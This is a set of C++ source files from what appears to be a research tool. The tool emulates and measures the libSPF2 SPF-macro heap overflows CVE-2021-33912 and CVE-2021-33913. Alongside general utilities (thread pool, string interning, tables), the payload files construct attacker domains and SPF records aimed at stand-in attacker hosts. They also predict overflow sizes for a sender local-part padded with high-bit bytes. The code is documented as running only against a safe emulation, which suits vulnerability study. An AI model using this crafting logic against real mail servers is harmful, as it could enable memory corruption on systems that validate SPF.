  if (u <= 0.0) u = 0x1.0p-53;
  return -std::log(u) / rate;
}

std::size_t Rng::weighted_index(std::span<const double> weights) {
  const double total = std::accumulate(weights.begin(), weights.end(), 0.0);
  if (weights.empty() || total <= 0.0) {
    throw std::invalid_argument("Rng::weighted_index: no positive weights");
  }
  double target = uniform01() * total;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    target -= weights[i];
    if (target < 0.0) return i;
  }
  return weights.size() - 1;  // floating-point slop lands on the last bucket
}

std::string Rng::token(std::size_t length) {
  static constexpr char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz234567";
  std::string out;
  out.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    out.push_back(kAlphabet[uniform(0, sizeof(kAlphabet) - 2)]);
  }
  return out;
}

}  // namespace spfail::util
