// Plain-text table rendering used by the bench harness to print the paper's
// tables and figure series in a diff-friendly fixed-width format.
#pragma once

#include <cstddef>
#include <ostream>
#include <string>
#include <vector>

namespace spfail::util {

enum class Align { Left, Right };

class TextTable {
 public:
  // `headers` fixes the column count; subsequent rows must match it.
  explicit TextTable(std::vector<std::string> headers,
                     std::vector<Align> alignments = {});

  void add_row(std::vector<std::string> cells);
  // A horizontal rule between logical row groups.
  void add_rule();

  std::size_t columns() const noexcept { return headers_.size(); }
  std::size_t rows() const noexcept;

  std::string render() const;
  friend std::ostream& operator<<(std::ostream& os, const TextTable& t) {
    return os << t.render();
  }

  // Emit the same data as RFC 4180 CSV (header row first, rules skipped) —
  // the machine-readable form benches export for external plotting.
  void to_csv(std::ostream& os) const;

 private:
  struct Row {
    std::vector<std::string> cells;
    bool rule = false;
  };

  std::vector<std::string> headers_;
  std::vector<Align> alignments_;
  std::vector<Row> rows_;
};

// Minimal CSV writer (RFC 4180 quoting) so benches can also emit
// machine-readable series for external plotting.
class CsvWriter {
 public:
  explicit CsvWriter(std::ostream& os) : os_(os) {}

  void row(const std::vector<std::string>& cells);

 private:
  static std::string escape(const std::string& cell);
  std::ostream& os_;
};

}  // namespace spfail::util
