// Cooperative shutdown flag for SIGINT/SIGTERM (DESIGN.md §15).
//
// A scan that dies mid-checkpoint-write corrupts nothing (writes are atomic
// temp+rename), but it loses everything since the last boundary. Installing
// these handlers turns both signals into a request the run loops honour at
// the next safe boundary: the session loop checkpoints and exits cleanly, a
// distributed worker finishes its current chunk (whose checkpoint is already
// on disk) and exits instead of dying mid-write.
//
// The handler only sets a volatile sig_atomic_t — async-signal-safe by
// construction. Handlers are installed without SA_RESTART so a worker
// blocked in read(2) on its request pipe wakes with EINTR and can notice
// the flag.
#pragma once

namespace spfail::util {

// Install SIGINT + SIGTERM handlers that set the shutdown flag. Idempotent.
void install_shutdown_handlers();

// True once a handled signal arrived (or request_shutdown was called).
bool shutdown_requested() noexcept;

// Programmatic equivalents, for tests and for the worker loop's own use.
void request_shutdown() noexcept;
void clear_shutdown() noexcept;

}  // namespace spfail::util
