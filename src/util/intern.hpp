// Append-only string interning (DESIGN.md §14).
//
// The scan apparatus repeats the same strings millions of times: qnames under
// a handful of probe suites, domain labels, provider names, report columns.
// Storing each occurrence as its own std::string is what caps campaign size —
// memory, not CPU, is the scaling wall (ROADMAP item 3). An Interner stores
// every distinct string exactly once in a chunked arena and hands out dense
// `u32` Symbol ids in first-insertion order, so hot-path equality is a u32
// compare and the text lives in O(distinct) bytes instead of O(occurrences).
//
// Determinism contract (the same discipline as src/obs/ registries and
// util::SimClock lanes): Symbol ids are assigned by insertion order, so a
// serial walk over deterministic inputs yields identical tables on every run.
// Per-shard interners are folded with merge() in shard-index order; merge
// returns an old-id -> new-id remap so shard-local Symbols can be rewritten,
// which keeps the merged table independent of thread count.
//
// The arena is chunked: chunks are never reallocated, so string_views handed
// out by view() stay valid for the interner's lifetime (and survive further
// interning). The hash table is open addressing over entry indices; only the
// table itself rehashes, never the bytes.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "snapshot/codec.hpp"

namespace spfail::util {

// Dense interned-string id; assigned in first-insertion order from 0.
using Symbol = std::uint32_t;
inline constexpr Symbol kInvalidSymbol = 0xFFFFFFFFu;

class Interner {
 public:
  Interner() = default;

  // Returns the Symbol for `text`, inserting it on first sight. Views into
  // the arena remain valid across calls (chunks never move).
  Symbol intern(std::string_view text);

  // The Symbol for `text` if already interned, else kInvalidSymbol. Does not
  // count toward the hit/miss statistics.
  Symbol find(std::string_view text) const;

  // The text of an interned Symbol. `id` must be < size().
  std::string_view view(Symbol id) const {
    const Entry& e = entries_[id];
    return std::string_view(chunks_[e.chunk].data() + e.offset, e.length);
  }

  std::size_t size() const noexcept { return entries_.size(); }
  bool empty() const noexcept { return entries_.empty(); }

  // Allocation-shape statistics for the memory bench: how often intern() was
  // answered from the table vs. had to append, and the distinct byte volume.
  std::uint64_t hits() const noexcept { return hits_; }
  std::uint64_t misses() const noexcept { return misses_; }
  std::uint64_t distinct_bytes() const noexcept { return distinct_bytes_; }

  // Fold `other`'s strings in (first-insertion order preserved within
  // `other`) and return a remap such that remap[old_id] == intern(text).
  // Folding per-shard interners in shard-index order yields a table
  // independent of how work was sharded.
  std::vector<Symbol> merge(const Interner& other);

  // Wire form (DESIGN.md §14): entry count, then each string u32
  // length-prefixed in Symbol order, then an fnv1a-64 checksum over exactly
  // those bytes. decode() rejects a checksum mismatch.
  void encode(snapshot::Writer& w) const;
  static Interner decode(snapshot::Reader& r);

  // Table equality: same strings in the same Symbol order.
  friend bool operator==(const Interner& a, const Interner& b);

 private:
  struct Entry {
    std::uint32_t chunk = 0;
    std::uint32_t offset = 0;
    std::uint32_t length = 0;
  };

  // Arena chunk size; strings longer than this get a dedicated chunk.
  static constexpr std::size_t kChunkBytes = 64 * 1024;

  std::string_view append(std::string_view text);
  void rehash(std::size_t buckets);
  Symbol lookup(std::string_view text, std::uint64_t hash) const;

  std::vector<std::string> chunks_;
  std::vector<Entry> entries_;
  // Open-addressing table of entry indices (kInvalidSymbol = empty slot).
  std::vector<Symbol> table_;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
  std::uint64_t distinct_bytes_ = 0;
};

// A mutex-guarded interner for tables populated from worker threads (the
// campaign's re-queue wave mutates report rows concurrently). Symbol ids
// still depend on arrival order — anything that must be deterministic
// resolves through the text, never through a SyncInterner id ordering.
class SyncInterner {
 public:
  SyncInterner() = default;
  SyncInterner(const SyncInterner& other) : interner_(other.interner_) {}
  SyncInterner& operator=(const SyncInterner& other) {
    if (this != &other) interner_ = other.interner_;
    return *this;
  }

  Symbol intern(std::string_view text) {
    std::lock_guard<std::mutex> lock(mutex_);
    return interner_.intern(text);
  }

  std::string_view view(Symbol id) const {
    std::lock_guard<std::mutex> lock(mutex_);
    return interner_.view(id);
  }

  const Interner& table() const noexcept { return interner_; }

 private:
  mutable std::mutex mutex_;
  Interner interner_;
};

}  // namespace spfail::util
