// Append-only string interning (DESIGN.md §14).
//
// The scan apparatus repeats the same strings millions of times: qnames under
// a handful of probe suites, domain labels, provider names, report columns.
// Storing each occurrence as its own std::string is what caps campaign size —
// memory, not CPU, is the scaling wall (ROADMAP item 3). An Interner stores
// every distinct string exactly once in a chunked arena and hands out dense
// `u32` Symbol ids in first-insertion order, so hot-path equality is a u32
// compare and the text lives in O(distinct) bytes instead of O(occurrences).
//
// Determinism contract (the same discipline as src/obs/ registries and
// util::SimClock lanes): Symbol ids are assigned by insertion order, so a
// serial walk over deterministic inputs yields identical tables on every run.
// Per-shard interners are folded with merge() in shard-index order; merge
// returns an old-id -> new-id remap so shard-local Symbols can be rewritten,
// which keeps the merged table independent of thread count.
//
// The arena is chunked: chunks are never reallocated, so string_views handed
// out by view() stay valid for the interner's lifetime (and survive further
// interning). The hash table is open addressing over entry indices; only the
// table itself rehashes, never the bytes.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "snapshot/codec.hpp"
#include "util/concurrent_table.hpp"

namespace spfail::util {

// Dense interned-string id; assigned in first-insertion order from 0.
using Symbol = std::uint32_t;
inline constexpr Symbol kInvalidSymbol = 0xFFFFFFFFu;

class Interner {
 public:
  Interner() = default;

  // Returns the Symbol for `text`, inserting it on first sight. Views into
  // the arena remain valid across calls (chunks never move).
  Symbol intern(std::string_view text);

  // The Symbol for `text` if already interned, else kInvalidSymbol. Does not
  // count toward the hit/miss statistics.
  Symbol find(std::string_view text) const;

  // The text of an interned Symbol. `id` must be < size().
  std::string_view view(Symbol id) const {
    const Entry& e = entries_[id];
    return std::string_view(chunks_[e.chunk].data() + e.offset, e.length);
  }

  std::size_t size() const noexcept { return entries_.size(); }
  bool empty() const noexcept { return entries_.empty(); }

  // Allocation-shape statistics for the memory bench: how often intern() was
  // answered from the table vs. had to append, and the distinct byte volume.
  std::uint64_t hits() const noexcept { return hits_; }
  std::uint64_t misses() const noexcept { return misses_; }
  std::uint64_t distinct_bytes() const noexcept { return distinct_bytes_; }

  // Fold `other`'s strings in (first-insertion order preserved within
  // `other`) and return a remap such that remap[old_id] == intern(text).
  // Folding per-shard interners in shard-index order yields a table
  // independent of how work was sharded.
  std::vector<Symbol> merge(const Interner& other);

  // Wire form (DESIGN.md §14): entry count, then each string u32
  // length-prefixed in Symbol order, then an fnv1a-64 checksum over exactly
  // those bytes. decode() rejects a checksum mismatch.
  void encode(snapshot::Writer& w) const;
  static Interner decode(snapshot::Reader& r);

  // Table equality: same strings in the same Symbol order.
  friend bool operator==(const Interner& a, const Interner& b);

 private:
  struct Entry {
    std::uint32_t chunk = 0;
    std::uint32_t offset = 0;
    std::uint32_t length = 0;
  };

  // Arena chunk size; strings longer than this get a dedicated chunk.
  static constexpr std::size_t kChunkBytes = 64 * 1024;

  std::string_view append(std::string_view text);
  void rehash(std::size_t buckets);
  Symbol lookup(std::string_view text, std::uint64_t hash) const;

  std::vector<std::string> chunks_;
  std::vector<Entry> entries_;
  // Open-addressing table of entry indices (kInvalidSymbol = empty slot).
  std::vector<Symbol> table_;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
  std::uint64_t distinct_bytes_ = 0;
};

// A lock-free interner for tables populated from worker threads, rebuilt on
// ConcurrentTable (DESIGN.md §16; it used to take a mutex per call). Symbol
// ids still depend on arrival order — anything that must be deterministic
// resolves through the text, never through a SyncInterner id ordering.
//
// This is also the reference implementation of the wide-key pattern the
// ConcurrentTable header points at: logical keys (strings) are wider than the
// table's u64 keys, so a hit verifies the full text and a mismatch — a true
// 64-bit fnv1a collision — re-probes under a salted key. The chain is bounded
// (kMaxSalt); exhausting it raises TableFullError like any sizing bug.
//
// Fixed capacity, like the table underneath: `expected` bounds the distinct
// strings. Callers size from a known upper bound; the scan core's fallback on
// TableFullError is its serial path.
class SyncInterner {
 public:
  static constexpr std::size_t kDefaultExpected = 1 << 12;

  explicit SyncInterner(std::size_t expected = kDefaultExpected)
      : table_(expected), strings_(table_.capacity()) {}

  SyncInterner(const SyncInterner&) = delete;
  SyncInterner& operator=(const SyncInterner&) = delete;

  ~SyncInterner() {
    for (auto& slot : strings_) delete slot.load(std::memory_order_acquire);
  }

  // Returns the Symbol for `text`, inserting on first sight. Thread-safe and
  // lock-free; concurrent callers with the same text converge on one Symbol.
  Symbol intern(std::string_view text);

  // The text of a Symbol previously returned by intern() on any thread.
  // Views stay valid for the interner's lifetime (strings never move).
  std::string_view view(Symbol id) const {
    return *strings_[id].load(std::memory_order_acquire);
  }

  // Distinct strings interned so far (racing inserts may or may not count).
  std::size_t size() const noexcept {
    return next_symbol_.load(std::memory_order_acquire);
  }

 private:
  // Salt step for collision re-probes: odd, so successive salted keys stay
  // distinct under the table's mixer.
  static constexpr std::uint64_t kSaltStep = 0x9E3779B97F4A7C15ULL;
  static constexpr int kMaxSalt = 4;

  struct Slot {
    // The symbol owning this (key, text) pair; written inside the table's
    // pre-publication init window, readable once the slot is Ready.
    std::uint32_t symbol = kInvalidSymbol;
  };

  ConcurrentTable<Slot> table_;
  // Symbol -> heap string, released-published by the inserting thread. Sized
  // to the table capacity: each table slot allocates at most one symbol.
  std::vector<std::atomic<std::string*>> strings_;
  std::atomic<std::uint32_t> next_symbol_{0};
};

}  // namespace spfail::util
