#include "util/thread_pool.hpp"

#include <cstdio>
#include <cstdlib>
#include <exception>
#include <string>

namespace spfail::util {

std::size_t resolve_thread_count(int requested) {
  if (requested > 0) return static_cast<std::size_t>(requested);
  if (const char* env = std::getenv("SPFAIL_THREADS");
      env != nullptr && *env != '\0') {
    const long parsed = std::strtol(env, nullptr, 10);
    if (parsed > 0) return static_cast<std::size_t>(parsed);
  }
  const unsigned hardware = std::thread::hardware_concurrency();
  return hardware > 0 ? hardware : 1;
}

ThreadPool::ThreadPool(int threads) {
  const std::size_t count = resolve_thread_count(threads);
  workers_.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    const std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  work_available_.notify_all();
  for (auto& worker : workers_) worker.join();
}

void ThreadPool::worker_loop() {
  while (true) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      work_available_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      if (queue_.empty()) return;  // stopping_ and drained
      task = std::move(queue_.front());
      queue_.pop_front();
    }
    task();
  }
}

// Private completion latch: a mutex/cv pair per dispatch so concurrent
// callers (nested pools) cannot interfere.
struct ThreadPool::Completion {
  std::mutex mutex;
  std::condition_variable cv;
  std::size_t done = 0;
};

void ThreadPool::await_and_rethrow(Completion& completion, std::size_t count,
                                   std::vector<std::exception_ptr>& errors) {
  std::unique_lock<std::mutex> lock(completion.mutex);
  completion.cv.wait(lock, [&] { return completion.done == count; });
  lock.unlock();

  // Rethrow the first error (in slot order) — but log the rest to stderr
  // first, so a multi-shard failure never silently narrows to one message.
  std::size_t first = errors.size();
  for (std::size_t i = 0; i < errors.size(); ++i) {
    if (errors[i]) {
      first = i;
      break;
    }
  }
  if (first == errors.size()) return;
  for (std::size_t i = first + 1; i < errors.size(); ++i) {
    if (!errors[i]) continue;
    try {
      std::rethrow_exception(errors[i]);
    } catch (const std::exception& e) {
      std::fprintf(stderr,
                   "thread pool: suppressed error from slice %zu: %s\n", i,
                   e.what());
    } catch (...) {
      std::fprintf(
          stderr,
          "thread pool: suppressed non-standard exception from slice %zu\n",
          i);
    }
  }
  std::rethrow_exception(errors[first]);
}

void ThreadPool::parallel_for_shards(
    std::size_t n, const std::function<void(std::size_t, std::size_t,
                                            std::size_t)>& fn) {
  const std::size_t shards = shard_count(n);
  if (shards == 0) return;

  std::vector<std::exception_ptr> errors(shards);
  Completion completion;

  const std::size_t base = n / shards;
  const std::size_t extra = n % shards;  // first `extra` shards get one more
  std::size_t begin = 0;
  {
    const std::lock_guard<std::mutex> lock(mutex_);
    for (std::size_t shard = 0; shard < shards; ++shard) {
      const std::size_t end = begin + base + (shard < extra ? 1 : 0);
      queue_.push_back([&, shard, begin, end] {
        try {
          fn(shard, begin, end);
        } catch (...) {
          errors[shard] = std::current_exception();
        }
        {
          // Notify under the lock: once the caller observes done == count it
          // destroys the latch, so the worker must not touch it after
          // releasing the mutex.
          const std::lock_guard<std::mutex> done_lock(completion.mutex);
          ++completion.done;
          completion.cv.notify_one();
        }
      });
      begin = end;
    }
  }
  work_available_.notify_all();
  await_and_rethrow(completion, shards, errors);
}

std::size_t ThreadPool::batch_count(std::size_t n,
                                    const SchedulerOptions& opts) const {
  if (n == 0) return 0;
  const SchedulerOptions resolved = opts.resolved();
  const std::size_t target =
      workers_.size() * static_cast<std::size_t>(resolved.batches_per_worker);
  return n < target ? n : target;
}

std::size_t ThreadPool::slice_count(std::size_t n,
                                    const SchedulerOptions& opts) const {
  return opts.resolved().policy == SchedPolicy::Static ? shard_count(n)
                                                       : batch_count(n, opts);
}

void ThreadPool::parallel_for_slices(
    std::size_t n, const SchedulerOptions& opts,
    const std::function<void(std::size_t, std::size_t, std::size_t)>& fn) {
  if (opts.resolved().policy == SchedPolicy::Static) {
    parallel_for_shards(n, fn);
  } else {
    parallel_for_batches(n, opts, fn);
  }
}

void ThreadPool::parallel_for_batches(
    std::size_t n, const SchedulerOptions& opts,
    const std::function<void(std::size_t, std::size_t, std::size_t)>& fn) {
  const std::size_t batches = batch_count(n, opts);
  if (batches == 0) return;
  const SchedulerOptions resolved = opts.resolved();

  const std::size_t participants =
      batches < workers_.size() ? batches : workers_.size();
  BatchScheduler scheduler(batches, participants, resolved);

  std::vector<std::exception_ptr> errors(batches);
  Completion completion;

  // The same near-equal contiguous split parallel_for_shards uses, cut at
  // batch grain: batch b covers [b*base + min(b, extra), ...). Identical
  // item coverage at any batch count is what lets the merged output match
  // the static baseline byte for byte.
  const std::size_t base = n / batches;
  const std::size_t extra = n % batches;
  const auto bounds = [base, extra](std::size_t b) {
    const std::size_t begin = b * base + (b < extra ? b : extra);
    return std::pair<std::size_t, std::size_t>(
        begin, begin + base + (b < extra ? 1 : 0));
  };

  {
    const std::lock_guard<std::mutex> lock(mutex_);
    for (std::size_t i = 0; i < participants; ++i) {
      queue_.push_back([&] {
        const std::size_t me = scheduler.claim_worker();
        for (;;) {
          const std::size_t b = scheduler.next(me);
          if (b == BatchScheduler::kNone) break;
          const auto [begin, end] = bounds(b);
          try {
            fn(b, begin, end);
          } catch (...) {
            errors[b] = std::current_exception();
          }
        }
        {
          const std::lock_guard<std::mutex> done_lock(completion.mutex);
          ++completion.done;
          completion.cv.notify_one();
        }
      });
    }
  }
  work_available_.notify_all();
  await_and_rethrow(completion, participants, errors);
}

}  // namespace spfail::util
