#include "util/thread_pool.hpp"

#include <cstdlib>
#include <exception>
#include <string>

namespace spfail::util {

std::size_t resolve_thread_count(int requested) {
  if (requested > 0) return static_cast<std::size_t>(requested);
  if (const char* env = std::getenv("SPFAIL_THREADS");
      env != nullptr && *env != '\0') {
    const long parsed = std::strtol(env, nullptr, 10);
    if (parsed > 0) return static_cast<std::size_t>(parsed);
  }
  const unsigned hardware = std::thread::hardware_concurrency();
  return hardware > 0 ? hardware : 1;
}

ThreadPool::ThreadPool(int threads) {
  const std::size_t count = resolve_thread_count(threads);
  workers_.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    const std::lock_guard<std::mutex> lock(mutex_);
    stopping_ = true;
  }
  work_available_.notify_all();
  for (auto& worker : workers_) worker.join();
}

void ThreadPool::worker_loop() {
  while (true) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      work_available_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      if (queue_.empty()) return;  // stopping_ and drained
      task = std::move(queue_.front());
      queue_.pop_front();
    }
    task();
  }
}

void ThreadPool::parallel_for_shards(
    std::size_t n, const std::function<void(std::size_t, std::size_t,
                                            std::size_t)>& fn) {
  const std::size_t shards = shard_count(n);
  if (shards == 0) return;

  // Per-shard completion + exception slots; a private latch so concurrent
  // callers (nested pools) cannot interfere.
  std::vector<std::exception_ptr> errors(shards);
  std::mutex done_mutex;
  std::condition_variable done_cv;
  std::size_t done = 0;

  const std::size_t base = n / shards;
  const std::size_t extra = n % shards;  // first `extra` shards get one more
  std::size_t begin = 0;
  {
    const std::lock_guard<std::mutex> lock(mutex_);
    for (std::size_t shard = 0; shard < shards; ++shard) {
      const std::size_t end = begin + base + (shard < extra ? 1 : 0);
      queue_.push_back([&, shard, begin, end] {
        try {
          fn(shard, begin, end);
        } catch (...) {
          errors[shard] = std::current_exception();
        }
        {
          // Notify under the lock: once the caller observes done == shards it
          // destroys the latch, so the worker must not touch it after
          // releasing the mutex.
          const std::lock_guard<std::mutex> done_lock(done_mutex);
          ++done;
          done_cv.notify_one();
        }
      });
      begin = end;
    }
  }
  work_available_.notify_all();

  std::unique_lock<std::mutex> lock(done_mutex);
  done_cv.wait(lock, [&] { return done == shards; });
  for (auto& error : errors) {
    if (error) std::rethrow_exception(error);
  }
}

}  // namespace spfail::util
