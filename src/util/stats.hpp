// Small descriptive-statistics helpers and an ASCII sparkline used by the
// bench harness to render figure series inline.
#pragma once

#include <span>
#include <string>

namespace spfail::util {

double mean(std::span<const double> values);
// Population standard deviation; 0 for fewer than two values.
double stddev(std::span<const double> values);
// Linear-interpolated percentile, q in [0,1]. Throws on empty input.
double percentile(std::span<const double> values, double q);
double median(std::span<const double> values);

// A unicode block-character sparkline: "▁▂▃▅▇█". Values are scaled to the
// min..max of the series; an empty series renders as "".
std::string sparkline(std::span<const double> values);

}  // namespace spfail::util
