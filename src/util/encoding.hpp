// Encoding helpers: RFC 3986 URL (percent) encoding as SPF macro expansion
// requires it, plus hexadecimal rendering used by the vulnerability emulation.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace spfail::util {

// True for RFC 3986 "unreserved" characters, which SPF's URL-encoding macros
// pass through unescaped.
constexpr bool is_url_unreserved(unsigned char c) noexcept {
  return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
         (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~';
}

// Correct percent-encoding of one byte: always "%XX" (uppercase hex).
std::string url_encode_byte(unsigned char c);

// Percent-encode a whole string, leaving unreserved characters intact.
std::string url_encode(std::string_view s);

// What libSPF2's vulnerable code *actually* produces for one byte: the result
// of `sprintf(buf, "%%%02x", (char)c)` under the ISO C integer promotions.
// For c < 0x80 this is the expected 3 characters ("%0f"); for c >= 0x80 the
// signed char sign-extends to 32 bits and yields 9 characters ("%fffffffe").
// This models CVE-2021-33912.
std::string libspf2_sprintf_encode_byte(unsigned char c);

// Lowercase hex rendering of a byte string (diagnostics / test assertions).
std::string to_hex(std::string_view bytes);

}  // namespace spfail::util
