#include "util/shutdown.hpp"

#include <csignal>

namespace spfail::util {

namespace {

volatile std::sig_atomic_t g_shutdown = 0;

extern "C" void shutdown_handler(int) { g_shutdown = 1; }

}  // namespace

void install_shutdown_handlers() {
  struct sigaction sa = {};
  sa.sa_handler = shutdown_handler;
  sigemptyset(&sa.sa_mask);
  sa.sa_flags = 0;  // no SA_RESTART: blocked reads must wake with EINTR
  sigaction(SIGINT, &sa, nullptr);
  sigaction(SIGTERM, &sa, nullptr);
}

bool shutdown_requested() noexcept { return g_shutdown != 0; }

void request_shutdown() noexcept { g_shutdown = 1; }

void clear_shutdown() noexcept { g_shutdown = 0; }

}  // namespace spfail::util
