#include "util/clock.hpp"

#include <cstdio>
#include <stdexcept>

namespace spfail::util {

std::string format_date(SimTime t) {
  const CivilDate d = to_civil(t);
  char buf[16];
  std::snprintf(buf, sizeof(buf), "%04d-%02d-%02d", d.year, d.month, d.day);
  return buf;
}

std::string format_datetime(SimTime t) {
  const CivilDate d = to_civil(t);
  std::int64_t secs = t % kDay;
  if (secs < 0) secs += kDay;
  char buf[24];
  std::snprintf(buf, sizeof(buf), "%04d-%02d-%02d %02lld:%02lld:%02lld", d.year,
                d.month, d.day, static_cast<long long>(secs / kHour),
                static_cast<long long>((secs / kMinute) % 60),
                static_cast<long long>(secs % 60));
  return buf;
}

thread_local SimClock::LaneState SimClock::lane_;

void SimClock::advance_to(SimTime t) {
  if (t < now()) {
    throw std::logic_error("SimClock::advance_to: time moved backwards (" +
                           format_datetime(t) + " < " + format_datetime(now()) +
                           ")");
  }
  if (lane_.clock == this) {
    lane_.offset = t - now_;
    return;
  }
  now_ = t;
}

SimClock::Lane::Lane(const SimClock& clock) : clock_(&clock) {
  if (lane_.clock != nullptr) {
    throw std::logic_error("SimClock::Lane: a lane is already active on this thread");
  }
  lane_.clock = &clock;
  lane_.offset = 0;
}

SimClock::Lane::~Lane() {
  (void)clock_;
  lane_.clock = nullptr;
  lane_.offset = 0;
}

}  // namespace spfail::util
