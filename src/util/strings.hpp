// Small string utilities shared across the library.
//
// Domain names in this codebase are handled as lowercase ASCII, dot-separated
// label strings ("example.com"); dns::Name provides the wire-format view.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace spfail::util {

// Split `s` on the single character `sep`. Adjacent separators yield empty
// fields; an empty input yields a single empty field (like most CSV codecs).
std::vector<std::string> split(std::string_view s, char sep);

// Split on any character present in `seps` (used by SPF macro delimiters,
// which may name several delimiter characters at once).
std::vector<std::string> split_any(std::string_view s, std::string_view seps);

std::string join(const std::vector<std::string>& parts, std::string_view sep);

std::string to_lower(std::string_view s);

bool iequals(std::string_view a, std::string_view b);

std::string_view trim(std::string_view s);

// True if every character is an ASCII letter or digit.
bool is_alnum(std::string_view s);

// Comma-grouped integer rendering for table output: 1234567 -> "1,234,567".
std::string with_commas(long long value);

// Fixed-point percentage: percent(3, 7) == "42.9%". Returns "0%" for a zero
// denominator (matches how the paper renders empty cells).
std::string percent(long long numerator, long long denominator, int decimals = 0);

}  // namespace spfail::util
