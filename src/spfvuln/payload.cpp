#include "spfvuln/payload.hpp"

#include <stdexcept>

namespace spfail::spfvuln {

namespace {

spf::MacroItem d1r_item() {
  spf::MacroItem item;
  item.letter = 'd';
  item.keep = 1;
  item.reverse = true;
  return item;
}

// A domain of `label_count` labels, each `label_len` octets, ending in a
// short TLD. Total presentation length must stay <= 253.
std::string make_domain(std::size_t label_count, std::size_t label_len) {
  std::string domain;
  for (std::size_t i = 0; i < label_count; ++i) {
    domain.append(label_len, static_cast<char>('a' + (i % 26)));
    domain.push_back('.');
  }
  domain += "io";
  return domain;
}

}  // namespace

CraftedPayload craft_reversal_payload(std::size_t min_overflow_bytes) {
  // Overflow for %{d1r} over a domain with labels L0..Ln-1 (kept = Ln-1):
  //   written   = joined(all dropped) + 1 + joined(all)
  //   allocated = len(kept)
  // so overflow grows with the total length of the dropped labels. Search
  // label geometries from small to large until the prediction clears the
  // request, staying inside the 253-octet name limit.
  const spf::MacroItem item = d1r_item();
  for (std::size_t label_len = 1; label_len <= 60; ++label_len) {
    for (std::size_t labels = 2; labels <= 60; ++labels) {
      const std::string domain = make_domain(labels, label_len);
      if (domain.size() > 253) break;
      const ExpansionReport report = libspf2_expand_item(item, domain);
      if (report.overflow_bytes >= min_overflow_bytes) {
        CraftedPayload payload;
        payload.attacker_domain = domain;
        payload.spf_record = "v=spf1 a:%{d1r}.attacker-ns.example -all";
        payload.predicted = report;
        return payload;
      }
    }
  }
  throw std::invalid_argument(
      "craft_reversal_payload: " + std::to_string(min_overflow_bytes) +
      " bytes exceeds what a 253-octet domain can trigger (" +
      std::to_string(max_reversal_overflow()) + ")");
}

CraftedPayload craft_urlencode_payload(std::size_t high_bit_characters) {
  spf::MacroItem item;
  item.letter = 'l';
  item.url_escape = true;

  // Each high-bit byte costs 9 emitted characters against a 3-character
  // budget: 6 bytes of overflow apiece, deterministic.
  std::string local_part = "a";
  local_part.append(high_bit_characters, '\xFE');

  CraftedPayload payload;
  payload.attacker_domain = "attacker.example";
  payload.spf_record = "v=spf1 exists:%{L}.probe.attacker.example -all";
  payload.predicted = libspf2_expand_item(item, local_part);
  return payload;
}

std::size_t max_reversal_overflow() {
  std::size_t best = 0;
  const spf::MacroItem item = d1r_item();
  for (std::size_t label_len = 1; label_len <= 63; ++label_len) {
    for (std::size_t labels = 2; labels <= 120; ++labels) {
      const std::string domain = make_domain(labels, label_len);
      if (domain.size() > 253) break;
      const ExpansionReport report = libspf2_expand_item(item, domain);
      best = std::max(best, report.overflow_bytes);
    }
  }
  return best;
}

}  // namespace spfail::spfvuln
