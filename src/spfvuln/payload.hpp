// Attacker-side payload construction (paper section 1: "messages that lead
// the server to pull down an exploitative payload from the DNS").
//
// Given a desired heap-overflow size, these helpers construct the SPF record
// an attacker would publish on a domain they control, and predict — via the
// memory-safe emulation — exactly how many bytes land past the allocation
// when a vulnerable libSPF2 expands it. Used by the exploit_anatomy example
// and by tests that pin the CVEs' quantitative behaviour; nothing here (or
// anywhere in this repository) performs an actual out-of-bounds write.
#pragma once

#include <string>

#include "spfvuln/libspf2_expander.hpp"

namespace spfail::spfvuln {

struct CraftedPayload {
  // The domain the attacker registers and the SPF TXT they publish on it.
  std::string attacker_domain;
  std::string spf_record;
  // What the victim's expansion of the record's macro does.
  ExpansionReport predicted;
};

// CVE-2021-33913: build a sender domain whose %{d1r}-style expansion
// overflows by at least `min_overflow_bytes` (achievable range ~1..200+;
// bounded by the 253-octet domain-name limit). The record published at
// `attacker_domain` is what the *victim's* SPF policy need not even contain —
// the attacker puts the macro in their own record and sends mail FROM their
// domain to any server validating with vulnerable libSPF2.
CraftedPayload craft_reversal_payload(std::size_t min_overflow_bytes);

// CVE-2021-33912: build a sender local-part/domain whose URL-escaping
// expansion (%{L}) overflows by exactly 6 bytes per high-bit character.
CraftedPayload craft_urlencode_payload(std::size_t high_bit_characters);

// The largest reversal overflow achievable within DNS name-length limits
// (the paper: "up to 100 arbitrary characters"; the true bound is slightly
// higher and this computes it).
std::size_t max_reversal_overflow();

}  // namespace spfail::spfvuln
