// A guarded emulation of a heap buffer.
//
// The vulnerable libSPF2 code allocates a buffer from a (sometimes wrong)
// computed length and then writes past its end. Reproducing that with real
// out-of-bounds writes would be both dangerous and unobservable; instead the
// emulation writes into an OverflowSentinel, which stores everything but
// *accounts* for each byte as in-bounds or overflow. Tests assert the exact
// overflow byte counts the CVE write-ups describe (6 bytes per high-bit
// character for CVE-2021-33912; up to ~100 bytes for CVE-2021-33913).
#pragma once

#include <cstddef>
#include <string>
#include <string_view>

namespace spfail::spfvuln {

class OverflowSentinel {
 public:
  explicit OverflowSentinel(std::size_t allocated) : allocated_(allocated) {}

  void put(char c) { data_.push_back(c); }
  void put(std::string_view s) { data_.append(s); }

  // Everything written, including bytes that would have landed out of bounds.
  const std::string& data() const noexcept { return data_; }
